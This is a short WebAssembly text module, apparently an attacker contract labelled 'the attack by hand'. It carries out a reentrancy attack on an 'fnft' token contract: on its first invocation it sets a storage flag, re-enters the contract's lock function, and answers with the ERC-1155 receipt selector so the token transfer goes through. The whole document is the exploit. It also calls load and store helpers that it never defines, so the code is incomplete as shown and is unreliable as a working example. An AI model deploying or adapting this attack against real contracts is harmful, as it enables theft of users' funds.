;; The attack by hand.

(module $attacker
  (import "contract:fnft" "lock" (func $fnft.lock (param i64 i64)))
  (import "ethereum" "finish" (func $finish (param i32 i32)))
  ;; @storage
  (memory $memory (export "memory") 1)

  ;; Ends the call well, with a number of four bytes.
  (func $give4 (param $number i32)
    (i32.store $memory (i32.const 64) (local.get $number))
    (call $finish (i32.const 64) (i32.const 4)))

  (func $main (export "main")
    (if (i64.eq (call $load_i64 (i32.const 0)) (i64.const 0))
      (then (call $store_i64 (i32.const 0) (i64.const 1)) (call $fnft.lock (i64.const 20) (i64.const 1))))
    (call $give4 (i32.const 0xbc197c81))))
